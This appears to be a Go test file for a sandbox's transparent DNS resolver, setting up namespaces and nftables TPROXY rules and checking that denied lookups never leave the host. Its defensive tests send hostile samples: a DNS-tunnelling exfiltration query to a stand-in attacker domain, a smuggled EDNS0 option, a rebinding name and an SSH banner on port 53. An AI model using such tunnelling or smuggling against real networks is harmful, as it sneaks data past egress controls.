package resolver

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/google/nftables/binaryutil"
	"github.com/google/nftables/expr"
	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"

	"github.com/cordonhq/cordon/internal/policy"
	"github.com/cordonhq/cordon/proving/lab"
)

const testPort = 15353

// gateway puts a sandbox's namespace behind the lab's host, whose kernel hands
// all of the sandbox's traffic to port 53 to the resolver, as in production.
func gateway(t *testing.T, l *lab.Lab) *lab.Netns {
	t.Helper()
	sandbox := lab.Empty(t)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(l.Host().Do(func() error {
		attrs := netlink.NewLinkAttrs()
		attrs.Name, attrs.Index = "sbx", 50
		if err := netlink.LinkAdd(&netlink.Veth{LinkAttrs: attrs, PeerName: "eth0", PeerNamespace: netlink.NsFd(sandbox.FD())}); err != nil {
			return err
		}
		if err := address("sbx", "10.223.0.1/30", "fd00:223::1/64"); err != nil {
			return err
		}
		for _, all := range []string{"0.0.0.0/0", "::/0"} {
			dst, err := netlink.ParseIPNet(all)
			if err != nil {
				return err
			}
			family := netlink.FAMILY_V4
			if strings.Contains(all, ":") {
				family = netlink.FAMILY_V6
			}
			lo, err := netlink.LinkByName("lo")
			if err != nil {
				return err
			}
			rule := netlink.NewRule()
			rule.Mark, rule.Table, rule.Family = 1, 100, family
			if err := netlink.RuleAdd(rule); err != nil {
				return err
			}
			err = netlink.RouteAdd(&netlink.Route{Dst: dst, LinkIndex: lo.Attrs().Index, Table: 100, Type: unix.RTN_LOCAL, Scope: netlink.SCOPE_HOST})
			if err != nil {
				return err
			}
		}
		return nil
	}))
	must(sandbox.Do(func() error {
		if err := address("eth0", "10.223.0.2/30", "fd00:223::2/64"); err != nil {
			return err
		}
		for _, gw := range []string{"10.223.0.1", "fd00:223::1"} {
			if err := netlink.RouteAdd(&netlink.Route{Gw: net.ParseIP(gw)}); err != nil {
				return err
			}
		}
		return nil
	}))
	must(redirect(l.Host()))
	return sandbox
}

func address(link string, addrs ...string) error {
	dev, err := netlink.LinkByName(link)
	if err != nil {
		return err
	}
	for _, s := range addrs {
		a, err := netlink.ParseAddr(s)
		if err != nil {
			return err
		}
		if a.IP.To4() == nil {
			a.Flags = unix.IFA_F_NODAD
		}
		if err := netlink.AddrAdd(dev, a); err != nil {
			return err
		}
	}
	return netlink.LinkSetUp(dev)
}

// redirect loads the rules that hand port 53 to the resolver.
func redirect(n *lab.Netns) error {
	c, err := nftables.New(nftables.WithNetNSFd(n.FD()))
	if err != nil {
		return err
	}
	table := c.AddTable(&nftables.Table{Family: nftables.TableFamilyINet, Name: "test"})
	chain := c.AddChain(&nftables.Chain{
		Name: "pre", Table: table, Type: nftables.ChainTypeFilter,
		Hooknum: nftables.ChainHookPrerouting, Priority: nftables.ChainPriorityMangle,
	})
	for _, to := range []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()} {
		family, tproxy := byte(unix.NFPROTO_IPV4), byte(unix.NFPROTO_IPV4)
		if to.Is6() {
			family, tproxy = unix.NFPROTO_IPV6, unix.NFPROTO_IPV6
		}
		for _, proto := range []byte{unix.IPPROTO_UDP, unix.IPPROTO_TCP} {
			c.AddRule(&nftables.Rule{Table: table, Chain: chain, Exprs: []expr.Any{
				&expr.Meta{Key: expr.MetaKeyNFPROTO, Register: 1},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{family}},
				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{proto}},
				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 2, Len: 2},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: binaryutil.BigEndian.PutUint16(53)},
				&expr.Meta{Key: expr.MetaKeyIIFNAME, Register: 1},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: append([]byte("sbx"), make([]byte, 13)...)},
				&expr.Immediate{Register: 1, Data: to.AsSlice()},
				&expr.Immediate{Register: 2, Data: binaryutil.BigEndian.PutUint16(testPort)},
				&expr.TProxy{Family: tproxy, TableFamily: unix.NFPROTO_INET, RegAddr: 1, RegPort: 2},
				&expr.Immediate{Register: 1, Data: binaryutil.NativeEndian.PutUint32(1)},
				&expr.Meta{Key: expr.MetaKeyMARK, SourceRegister: true, Register: 1},
				&expr.Verdict{Kind: expr.VerdictAccept},
			}})
		}
	}
	return c.Flush()
}

// serveInLab runs a resolver for one sandbox in the lab's host until the test ends.
func serveInLab(t *testing.T, l *lab.Lab, in policy.Input, change ...func(*Config)) *events {
	t.Helper()
	p, err := policy.Compile(in, &policy.Operator{AlwaysDeny: []string{"operator0.test", "operator1.test"}}, 7)
	if err != nil {
		t.Fatal(err)
	}
	flows := &events{}
	own := map[netip.Addr]bool{netip.MustParseAddr("10.223.0.2"): true, netip.MustParseAddr("fd00:223::2"): true}
	cfg := Config{
		Owner:     func(a netip.Addr) (string, *policy.Compiled, bool) { return "s1", p, own[a] },
		Policy:    func(string) (*policy.Compiled, bool) { return p, true },
		Upstreams: l.Upstreams(), Dial: l.Host().Dial, IPv6: true,
		Flows: flows, Log: slog.New(slog.NewTextHandler(os.Stderr, nil)),
	}
	for _, c := range change {
		c(&cfg)
	}
	r, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	for _, a := range []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()} {
		addr := netip.AddrPortFrom(a, testPort)
		var u *TransparentUDP
		var tl net.Listener
		err := l.Host().Do(func() (err error) {
			if u, err = ListenTransparentUDP(ctx, addr); err == nil {
				tl, err = ListenTransparentTCP(ctx, addr)
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
		// Reply sockets belong to the namespace of the thread that makes them.
		d := &inNetns{u, l.Host()}
		wg.Go(func() {
			if err := r.ServeUDP(ctx, d); err != nil {
				t.Error(err)
			}
		})
		wg.Go(func() {
			if err := r.ServeTCP(ctx, tl); err != nil {
				t.Error(err)
			}
		})
	}
	t.Cleanup(func() {
		cancel()
		wg.Wait()
		settle(r)
	})
	return flows
}

// inNetns sends replies from within a namespace.
type inNetns struct {
	*TransparentUDP
	ns *lab.Netns
}

func (d *inNetns) Reply(msg []byte, from, to netip.AddrPort) error {
	return d.ns.Do(func() error { return d.TransparentUDP.Reply(msg, from, to) })
}

// exchange asks as the sandbox.
func exchange(ctx context.Context, sandbox *lab.Netns, network, server string, m *dns.Msg) (*dns.Msg, error) {
	c, err := sandbox.Dial(ctx, network, server)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	r, _, err := (&dns.Client{Net: network, Timeout: 5 * time.Second, UDPSize: 1232}).ExchangeWithConn(m, &dns.Conn{Conn: c})
	return r, err
}

func TestTransparentlyForAnyServerASandboxAddresses(t *testing.T) {
	l := lab.Start(t, lab.Config{IPv6: true})
	sandbox := gateway(t, l)
	flows := serveInLab(t, l, policy.Input{})
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	for _, network := range []string{"udp", "tcp"} {
		for _, server := range []string{"8.8.8.8:53", "1.1.1.1:53", "9.9.9.9:53", "[2001:4860:4860::8888]:53", "[2620:fe::fe]:53"} {
			r, err := exchange(ctx, sandbox, network, server, ask("allowed.test", dns.TypeA))
			if err != nil || answersOf(r) != "198.51.100.10" {
				t.Errorf("%s %s: %v, %v", network, server, r, err)
			}
			if e := flows.last(t); e.Dst.String() != server {
				t.Errorf("%s %s: logged for %s", network, server, e.Dst)
			}
		}
	}
	// More servers than there are reply sockets, all at once.
	var wg sync.WaitGroup
	for i := range 3 * maxReplySockets {
		wg.Go(func() {
			server := fmt.Sprintf("203.0.114.%d:53", i)
			if r, err := exchange(ctx, sandbox, "udp", server, ask("allowed.test", dns.TypeA)); err != nil {
				t.Errorf("%s: %v, %v", server, r, err)
			}
		})
	}
	wg.Wait()
}

func TestNothingDeniedReachesTheInternet(t *testing.T) {
	l := lab.Start(t, lab.Config{IPv6: true})
	sandbox := gateway(t, l)
	serveInLab(t, l, policy.Input{AllowOut: []string{"allowed.test", "ech.test", "private.test", "big.test", "flip.test"}, DenyOut: []string{"0.0.0.0/0"}})
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	mark := l.Recorder().Mark()
	for _, c := range []struct {
		name  string
		qtype uint16
		rcode int
		want  string // in the answer
		not   string
	}{
		{"allowed.test", dns.TypeA, 0, "198.51.100.10", ""},
		{"denied.test", dns.TypeA, 0, "", "198"},
		{"c2VjcmV0.tunnel.attacker.test", dns.TypeTXT, 0, "", "open"},
		{"ech.test", dns.TypeHTTPS, 0, "alpn", "ech="},
		{"private.test", dns.TypeA, 0, "", "10.0"},
		{"5.0.0.10.in-addr.arpa", dns.TypePTR, dns.RcodeNameError, "", ""},
	} {
		m := ask(c.name, c.qtype)
		m.SetEdns0(1232, false).IsEdns0().Option = []dns.EDNS0{&dns.EDNS0_LOCAL{Code: 65001, Data: []byte("smuggled")}}
		r, err := exchange(ctx, sandbox, "udp", "8.8.8.8:53", m)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		got := answersOf(r)
		if r.Rcode != c.rcode || !strings.Contains(got, c.want) || c.not != "" && strings.Contains(got, c.not) {
			t.Errorf("%s: got %v", c.name, r)
		}
	}
	for range 3 { // rebinding: first a public address, then a private one
		r, err := exchange(ctx, sandbox, "tcp", "8.8.8.8:53", ask("flip.test", dns.TypeA))
		if err != nil || strings.Contains(answersOf(r), "10.0.0.5") {
			t.Errorf("flip.test: %v, %v", r, err)
		}
		time.Sleep(1100 * time.Millisecond) // past the shortest time an answer is kept
	}
	if r, err := exchange(ctx, sandbox, "tcp", "8.8.8.8:53", ask("big.test", dns.TypeTXT)); err != nil || len(r.Answer) != 40 {
		t.Errorf("big.test over TCP: %v, %v", r, err)
	}
	notDNS(ctx, t, sandbox)

	seen := l.Recorder().Since(mark)
	if seen.Err() != nil || !seen.AskedFor("allowed.test") {
		t.Fatalf("the recorder does not work: %v, %v", seen.Err(), seen.Questions())
	}
	for _, name := range []string{"denied.test", "attacker.test", "in-addr.arpa"} {
		if seen.AskedFor(name) {
			t.Errorf("a question for %s left the host", name)
		}
	}
	for _, secret := range []string{"c2VjcmV0", "smuggled", "SSH-2.0"} {
		if seen.Contains([]byte(secret)) {
			t.Errorf("%q left the host", secret)
		}
	}
}

// notDNS speaks other protocols to port 53, which must end at once or at the
// deadline, and never reach anyone.
func notDNS(ctx context.Context, t *testing.T, sandbox *lab.Netns) {
	t.Helper()
	c, err := sandbox.Dial(ctx, "tcp", "8.8.8.8:53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, "SSH-2.0-OpenSSH_9.2p1\r\n"); err != nil {
		t.Fatal(err)
	}
	if err := c.SetReadDeadline(time.Now().Add(2 * time.Second)); err != nil {
		t.Fatal(err)
	}
	if n, err := c.Read(make([]byte, 100)); err != io.EOF && !strings.Contains(err.Error(), "reset") {
		t.Errorf("SSH on port 53 read %d bytes, %v; want the end", n, err)
	}
}

// TestTCPConnections runs over a plain loopback: everything but the transparency.
func TestTCPConnections(t *testing.T) {
	f := newFixture(t, policy.Input{}, func(c *Config) {
		owner := c.Owner
		c.Owner = func(netip.Addr) (string, *policy.Compiled, bool) { return owner(sandboxAddr.Addr()) }
		c.Budget.Connections = 2
	})
	f.policy = openLoopback(t)
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	served := make(chan error)
	go func() { served <- f.ServeTCP(ctx, l) }()
	dial := func() net.Conn {
		c, err := net.Dial("tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		return c
	}
	wire, err := ask("a.test", dns.TypeA).Pack()
	if err != nil {
		t.Fatal(err)
	}
	framed := append(binary.BigEndian.AppendUint16(nil, uint16(len(wire))), wire...)

	c := dial()
	for _, b := range append(framed, framed...) { // two queries, one byte at a time
		if _, err := c.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	co := &dns.Conn{Conn: c}
	for range 2 {
		if r, err := co.ReadMsg(); err != nil || answersOf(r) != "198.51.100.10" {
			t.Errorf("got %v, %v", r, err)
		}
	}
	dial()
	third := dial()
	if _, err := third.Read(make([]byte, 1)); err == nil {
		t.Error("a connection beyond the budget is served")
	}
	cancel()
	if err := <-served; err != nil {
		t.Error(err)
	}
	if _, err := c.Read(make([]byte, 1)); err == nil {
		t.Error("a connection outlived the resolver")
	}
}

// openLoopback is a policy under which a server on the loopback may be asked.
func openLoopback(t *testing.T) *policy.Compiled {
	t.Helper()
	p, err := policy.Compile(policy.Input{}, &policy.Operator{FloorOpen: []string{"127.0.0.1"}}, 7)
	if err != nil {
		t.Fatal(err)
	}
	return p
}
